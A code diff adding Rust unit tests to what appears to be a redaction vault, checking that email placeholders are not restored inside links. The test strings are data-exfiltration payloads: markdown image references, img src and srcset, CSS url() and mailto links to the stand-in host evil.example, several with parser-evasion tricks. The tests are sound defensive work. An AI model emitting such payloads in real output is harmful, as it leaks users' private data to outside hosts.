@@ -276,6 +276,17 @@ mod tests {
             "[1]: https://evil.example/?a=\"<EMAIL_ADDRESS_1>",
             "<img src=\"https://evil.example/?a=<b> <EMAIL_ADDRESS_1>\">",
             "<img src='//evil.example/?a= <EMAIL_ADDRESS_1 EMAIL_ADDRESS_1>'>",
+            "<img src=\" https://evil.example/?a= <EMAIL_ADDRESS_1>\">",
+            r#"<img src="/\evil.example/?a= <EMAIL_ADDRESS_1>">"#,
+            r#"<img src="https:\\evil.example/?a= <EMAIL_ADDRESS_1>">"#,
+            "<img src=\"https:evil.example/?a= <EMAIL_ADDRESS_1>\">",
+            "<img srcset=\"a.png 1x, //evil.example/<EMAIL_ADDRESS_1> 2x\">",
+            "<p style=\"background:url(//evil.example/<EMAIL_ADDRESS_1>)\">",
+            "<p style=\"background:url(&quot;//evil.example/<EMAIL_ADDRESS_1>&quot;)\">",
+            "<p style=\"background:url('https://evil.example/?a= <EMAIL_ADDRESS_1>')\">",
+            "![x][r]\n\n[r]: //evil.example/<EMAIL_ADDRESS_1>",
+            "![x][r]\n\n[r]: <https://evil.example/?a= EMAIL_ADDRESS_1>",
+            "<mailto:a@evil.example?body=<EMAIL_ADDRESS_1>>",
         ] {
             assert_eq!(vault.restore(link), link);
         }
@@ -284,6 +295,10 @@ mod tests {
             "<a href=\"https://a.example\">a</a> <EMAIL_ADDRESS_1>",
             "[a](b) <EMAIL_ADDRESS_1>",
             "a = \"<EMAIL_ADDRESS_1>",
+            "a(); // <EMAIL_ADDRESS_1>",
+            r"\\server,<EMAIL_ADDRESS_1>",
+            "<https://a.example> <EMAIL_ADDRESS_1>",
+            "by http: <EMAIL_ADDRESS_1>",
         ] {
             assert_eq!(vault.restore(text), text.replace("<EMAIL_ADDRESS_1>", "a@b.cd"));
         }
